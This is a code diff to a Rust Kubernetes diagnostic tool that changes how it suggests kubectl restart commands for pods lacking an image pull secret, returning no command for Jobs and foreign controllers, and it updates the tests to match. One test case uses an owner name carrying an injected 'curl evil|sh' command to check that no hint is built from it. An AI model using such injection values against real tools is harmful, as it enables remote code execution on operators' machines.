@@ -9,11 +9,13 @@ use k8s_openapi::api::rbac::v1::{ClusterRole, PolicyRule};
 use kube::ResourceExt as _;
 
 use super::{Check, Sight, well};
+use crate::view::owner::{kept, workload};
 
 const NAMESPACES: &str = "namespaces";
 const INSTALL: &str = "`kubectl globalps install --image-pull-secrets --apply` restores it";
 /// Names in a message, and commands in a hint.
 const MOST: usize = 5;
+const BY_HAND: &str = "no controller is known to recreate them, or their Job would count them as failed: create them again as they were created";
 
 /// What is in the cluster for delivery into namespaces.
 #[derive(Debug)]
@@ -59,8 +61,8 @@ impl RoleSeen {
 pub(crate) struct EarlyPod {
     pub namespace: String,
     pub name: String,
-    /// The command that makes a new one.
-    pub restart: String,
+    /// The command that makes a new one; `None`: nothing would recreate it.
+    pub restart: Option<String>,
 }
 
 /// `None` if the pod has the reference, doesn't fail to pull, or can't get the reference.
@@ -94,29 +96,13 @@ pub(crate) fn early_pod(pod: &Pod, secret_name: &str) -> Option<EarlyPod> {
     })
 }
 
-/// `deployment/web`: what `kubectl` restarts to replace the pod; `None`: nothing that it knows.
-pub(crate) fn workload(pod: &Pod) -> Option<String> {
-    let owner = pod
-        .owner_references()
-        .iter()
-        .find(|owner| owner.controller == Some(true));
-    owner.and_then(|owner| match owner.kind.as_str() {
-        "ReplicaSet" => {
-            // A Deployment names its ReplicaSets after this label.
-            let hash = pod.labels().get("pod-template-hash")?;
-            let deployment = owner.name.strip_suffix(hash)?.strip_suffix('-')?;
-            Some(format!("deployment/{deployment}"))
-        }
-        "StatefulSet" => Some(format!("statefulset/{}", owner.name)),
-        "DaemonSet" => Some(format!("daemonset/{}", owner.name)),
-        _ => None,
-    })
-}
-
-fn restart(pod: &Pod, namespace: &str, name: &str) -> String {
+/// What makes a new pod; `None`: nothing does, if this one is deleted.
+fn restart(pod: &Pod, namespace: &str, name: &str) -> Option<String> {
     match workload(pod) {
-        Some(workload) => format!("kubectl -n {namespace} rollout restart {workload}"),
-        None => format!("kubectl -n {namespace} delete pod {name}"),
+        Some(workload) => Some(format!("kubectl -n {namespace} rollout restart {workload}")),
+        None => kept(pod)
+            .is_none()
+            .then(|| format!("kubectl -n {namespace} delete pod {name}")),
     }
 }
 
@@ -213,7 +199,8 @@ fn early(early: &Sight<Vec<EarlyPod>>, name: &str) -> Check {
                 .iter()
                 .map(|pod| format!("{}/{}", pod.namespace, pod.name))
                 .collect();
-            let commands: BTreeSet<&str> = found.iter().map(|pod| pod.restart.as_str()).collect();
+            let commands = found.iter().filter_map(|pod| pod.restart.as_deref());
+            let commands: BTreeSet<&str> = commands.collect();
             let shown: Vec<String> = commands
                 .iter()
                 .take(MOST)
@@ -228,7 +215,19 @@ fn early(early: &Sight<Vec<EarlyPod>>, name: &str) -> Check {
                 number(found.len(), "pod"),
                 first(&pods)
             ))
-            .warn(format!("create them again: {}{more}", shown.join("; ")))
+            .warn(
+                match (
+                    shown.is_empty(),
+                    found.iter().any(|pod| pod.restart.is_none()),
+                ) {
+                    (true, _) => BY_HAND.to_owned(),
+                    (false, false) => format!("create them again: {}{more}", shown.join("; ")),
+                    (false, true) => format!(
+                        "create them again: {}{more}. Of the others: {BY_HAND}",
+                        shown.join("; ")
+                    ),
+                },
+            )
         }
         Sight::Hidden => check("pods can't be seen".to_owned())
             .warn("ask a user who may list pods in all namespaces"),
@@ -291,23 +290,32 @@ mod tests {
             (
                 "of a Deployment",
                 pod(|_| {}),
-                Some("kubectl -n a rollout restart deployment/web"),
+                Some(Some("kubectl -n a rollout restart deployment/web")),
             ),
             (
                 "of a StatefulSet",
                 pod(owned("StatefulSet")),
-                Some("kubectl -n a rollout restart statefulset/own"),
+                Some(Some("kubectl -n a rollout restart statefulset/own")),
             ),
-            ("of a Job", pod(owned("Job")), Some(deleted)),
+            ("of a Job", pod(owned("Job")), Some(None)),
             (
                 "of a ReplicaSet alone",
                 pod(owned("ReplicaSet")),
-                Some(deleted),
+                Some(Some(deleted)),
+            ),
+            (
+                "of a StatefulSet of another program",
+                pod(|pod| {
+                    owned("StatefulSet")(pod);
+                    pod["metadata"]["ownerReferences"][0]["apiVersion"] = json!("x.example/v1");
+                    pod["metadata"]["ownerReferences"][0]["name"] = json!("web;curl evil|sh #");
+                }),
+                Some(None),
             ),
             (
                 "nobody's",
                 pod(|pod| pod["metadata"]["ownerReferences"] = json!([])),
-                Some(deleted),
+                Some(None),
             ),
             (
                 "with the reference",
@@ -317,7 +325,7 @@ mod tests {
             (
                 "with another reference",
                 pod(|pod| pod["spec"]["imagePullSecrets"] = json!([{"name": "x"}])),
-                Some("kubectl -n a rollout restart deployment/web"),
+                Some(Some("kubectl -n a rollout restart deployment/web")),
             ),
             (
                 "a static pod",
@@ -337,7 +345,8 @@ mod tests {
             ),
         ] {
             let found = early_pod(&pod, "s").map(|pod| pod.restart);
-            assert_eq!(found.as_deref(), expected, "{case}");
+            let found = found.as_ref().map(Option::as_deref);
+            assert_eq!(found, expected, "{case}");
         }
     }
 
@@ -368,7 +377,7 @@ mod tests {
         let pods = (0..number).map(|at| EarlyPod {
             namespace: "a".to_owned(),
             name: format!("p{at}"),
-            restart: "kubectl -n a rollout restart deployment/web".to_owned(),
+            restart: Some("kubectl -n a rollout restart deployment/web".to_owned()),
         });
         Sight::Here(pods.collect())
     }
@@ -487,6 +496,25 @@ mod tests {
             hint.as_deref(),
             Some("create them again: `kubectl -n a rollout restart deployment/web`")
         );
+        for (restarts, expected) in [
+            (&[None, None][..], BY_HAND.to_owned()),
+            (
+                &[Some("x"), None],
+                format!("create them again: `x`. Of the others: {BY_HAND}"),
+            ),
+        ] {
+            let pods = restarts.iter().map(|restart| EarlyPod {
+                namespace: "a".to_owned(),
+                name: "p".to_owned(),
+                restart: restart.map(str::to_owned),
+            });
+            let early = Sight::Here(pods.collect());
+            let checks = namespaces(&gps(None), &Delivering { early, ..well() });
+            assert_eq!(
+                checks.last().map(|check| check.hint.clone()),
+                Some(expected)
+            );
+        }
     }
 
     #[test]
